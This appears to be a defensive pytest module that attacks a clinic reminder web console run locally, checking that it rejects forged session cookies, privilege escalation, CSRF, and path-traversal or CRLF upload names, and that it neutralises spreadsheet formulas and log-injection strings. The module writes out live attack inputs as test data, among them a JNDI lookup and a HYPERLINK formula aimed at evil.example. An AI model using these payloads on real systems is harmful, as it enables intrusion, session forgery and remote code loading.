"""The console of a real web process under attack by a scheduler, by a planted session, and by a file.

Every endpoint, form and header is in tests/web/console/security, without the processes.
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import pytest
import requests
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from sqlalchemy import select, update

from ivr.ledger.tables import console_user
from ivr.staff.users import Role, add_user
from tests.attack.target import SECRET_KEY, Target
from tests.support.clinic import NOW
from tests.support.processes import wait_until

pytestmark = pytest.mark.processes

_TOKEN = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')
COOKIE = "infoline"
FORMULAS = ('=HYPERLINK("http://evil.example")', "+1+1", "-2", "@SUM(A1)", "\t=1", "＝1")  # noqa: RUF001
FORGED_LINE = '{"event": "process_started", "level": "info", "forged": true}'
MARK = "attacker-was-here"


def cookie(key: str, secret: str = SECRET_KEY) -> str:
    """A session of a user who has signed in with both factors. secret: what it is signed with."""
    app = Flask(__name__)
    app.secret_key = secret
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    assert serializer
    values = {"_user_id": key, "_fresh": True, "fs_cc": "set", "fs_paa": time.time(), "_permanent": True}
    return str(serializer.dumps(values))


class Browser:
    """A browser with a session. Paths start below /console."""

    def __init__(self, target: Target, value: str = "") -> None:
        self.url = f"{target.url}/console"
        self.session = requests.Session()
        self.session.trust_env = False
        if value:
            self.session.cookies.set(COOKIE, value, domain="127.0.0.1")

    def get(self, path: str) -> requests.Response:
        return self.session.get(self.url + path, allow_redirects=False, timeout=60)

    def post(self, path: str, data: dict[str, str] | None = None, **options: object) -> requests.Response:
        """Send a form with a valid token."""
        found = _TOKEN.search(self.get("/account").text)
        assert found
        fields = {"csrf_token": found[1], **(data or {})}
        return self.session.post(
            self.url + path, fields, allow_redirects=False, timeout=60, headers={"Referer": self.url}, **options
        )


def add_session(target: Target, role: Role) -> str:
    """The key of a new user's sessions."""
    with target.clinic.ledger.write() as connection:
        user = add_user(connection, f"{role}@example.org", "Dana Example", role, NOW).user
        is_user = console_user.c.id == user.id
        values = {"password": "x", "second_factor": "authenticator", "invitation": None, "invited_until": None}
        connection.execute(update(console_user).where(is_user).values(values))
        return str(connection.execute(select(console_user.c.session_key).where(is_user)).scalar_one())


@pytest.fixture(scope="module")
def session_key(target: Target) -> str:
    """Of a scheduler."""
    return add_session(target, Role.SCHEDULER)


@pytest.fixture
def scheduler(target: Target, session_key: str) -> Iterator[Browser]:
    browser = Browser(target, cookie(session_key))
    yield browser
    browser.session.close()


def test_only_a_session_that_the_console_signed_opens_a_page(target: Target, session_key: str) -> None:
    assert Browser(target, cookie(session_key)).get("/").status_code == 200
    genuine = cookie(session_key)
    payload, _, rest = genuine.partition(".")
    planted = (
        cookie(session_key, "another secret key"),
        cookie("1"),
        cookie("' OR 1=1 --"),
        f"{payload[:-2]}AA.{rest}",
        f"{payload}..",
        "{}",
        "A" * 4000,
    )
    for value in ("", *planted):
        answer = Browser(target, value).get("/")
        assert (answer.status_code, answer.headers["Location"]) == (302, "/console/login?next=/console/"), value


def test_a_session_from_before_the_sign_in_is_not_the_one_after_it(target: Target) -> None:
    """An attacker who plants a cookie learns nothing: whatever they plant, the page gives out a session of its own."""
    planted = Browser(target).get("/login").cookies[COOKIE]
    victim = Browser(target, planted)
    assert victim.get("/").headers["Location"].startswith("/console/login")
    other = Browser(target, "planted-by-somebody").get("/login").cookies[COOKIE]
    assert "planted" not in other


def test_a_scheduler_cannot_become_an_administrator(target: Target, scheduler: Browser) -> None:
    def users() -> list[tuple[object, ...]]:
        names = ("id", "email", "role", "active")
        with target.clinic.ledger.read() as connection:
            return [tuple(row) for row in connection.execute(select(*(console_user.c[name] for name in names)))]

    before = users()
    extra = {"role": "admin", "id": "1", "email": "evil@example.org", "is_admin": "1", "disabled_at": ""}
    assert scheduler.post("/account/language", {"language": "es", **extra}).status_code in (302, 303, 404)
    for path in ("/settings/users/1/role", "/settings/users/add", "/settings/keys/add"):
        assert scheduler.post(path, {**extra, "name": "Evil"}).status_code == 403, path
    assert users() == before


def test_no_form_is_taken_without_its_token(target: Target, scheduler: Browser) -> None:
    before = target.ledger_rows()
    for headers in ({}, {"Origin": "https://evil.example"}, {"Referer": "https://evil.example/"}):
        path = f"{scheduler.url}/reminders/batches/1"
        answer = scheduler.session.post(path, {"action": "pause"}, headers=headers, timeout=60, allow_redirects=False)
        assert answer.status_code == 400
    assert target.ledger_rows() == before


NAMES = (
    "../../../../tmp/attack.csv",
    "..\\..\\attack.csv",
    "/etc/passwd",
    'a".csv\r\nSet-Cookie: a=b',
    "\u202egnp.exe.csv",
    f"{MARK}\n{FORGED_LINE}.csv",
    "a\0b.csv",
    "x" * 5000 + ".csv",
)


def test_the_name_of_an_uploaded_file_leads_nowhere(target: Target, scheduler: Browser) -> None:
    content = b"appointment_id,phone,starts_at,site\n"
    for name in NAMES:
        answer = scheduler.post("/reminders/upload", {"upload": "1"}, files={"file": (name, content)})
        assert answer.status_code in (303, 400), name
        assert "a=b" not in str(answer.headers)
    files = {path.name for path in target.processes.folder.rglob("*")}
    assert "passwd" not in files or not (target.processes.folder / "etc").exists()
    assert not any("\n" in name or "\u202e" in name for name in files)
    assert target.crashes() == []


def test_formulas_of_a_file_are_text_in_the_rows_to_mend(target: Target, scheduler: Browser) -> None:
    header = ["appointment_id", "phone", "starts_at", "site", *(f"{formula} column" for formula in FORMULAS)]
    lines = [header, ["A1", "603-555-0101", "never", "elliot", *FORMULAS]]
    quoted = "\r\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in line) for line in lines)
    answer = scheduler.post("/reminders/upload", {"upload": "1"}, files={"file": ("rows.csv", quoted.encode())})
    path = answer.headers["Location"].removeprefix("/console")
    wait_until(lambda: scheduler.get(f"{path}/rows-to-mend.csv").status_code == 200)
    answer = scheduler.get(f"{path}/rows-to-mend.csv")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="rows-to-mend.csv"'
    cells = answer.content.decode("utf-8-sig").replace('"', "").replace("\r\n", ",").split(",")
    assert [cell for cell in cells if re.match(r"\s*[=+\-@＝]", cell)] == []  # noqa: RUF001
    assert sum(cell.startswith("'") for cell in cells) >= 2 * len(FORMULAS) - 2


def test_what_a_client_sends_is_in_no_line_of_the_log(target: Target, scheduler: Browser) -> None:
    hostile = f"{MARK} {FORGED_LINE} \x1b[2J ${{jndi:ldap://evil.example/a}}"
    encoded = f"%0d%0a{MARK}%0a%7B%22event%22%3A%22forged%22%7D"
    for path in (f"/{encoded}", f"/voice/{encoded}/{encoded}", f"/console/{encoded}", f"/api/v1/{encoded}"):
        target.ask("GET", path, headers={"User-Agent": hostile.replace("\x1b", ""), "X-Request-Id": MARK})
    fields = {name: f"{hostile}\r\n{FORGED_LINE}" for name in ("Body", "From", "CallSid", "SpeechResult", "Digits")}
    for path in ("/sms", "/voice", "/receipts/call/incoming", f"/receipts/text/{MARK}"):
        target.webhook(path, {**fields, "To": "+16035550100", MARK: MARK})
        target.ask("POST", path, hostile, {"X-Twilio-Signature": MARK})
    target.api("POST", "/opt-outs", f'{{"phone": "{MARK}\\n{MARK}", "state": "{MARK}"}}'.encode())
    scheduler.get(f"/people?q={encoded}")
    Browser(target).get(f"/login?next={encoded}")
    assert target.events()
    assert [line for line in target.log_lines() if MARK in line or "evil.example" in line] == []
    assert [event for event in target.events() if "forged" in event] == []


def test_what_a_scheduler_did_is_in_the_audit_log_which_is_for_administrators_and_has_no_formula(
    target: Target, scheduler: Browser
) -> None:
    assert scheduler.get("/settings/audit.csv").status_code == 403
    scheduler.post("/reminders/batches/1", {"action": "pause"})
    answer = Browser(target, cookie(add_session(target, Role.ADMIN))).get("/settings/audit.csv")
    assert (answer.status_code, "console user 1,batch_paused" in answer.text) == (200, True)
    assert re.search(r'(?:^|,)"?\s*[=+@]', answer.text, re.MULTILINE) is None
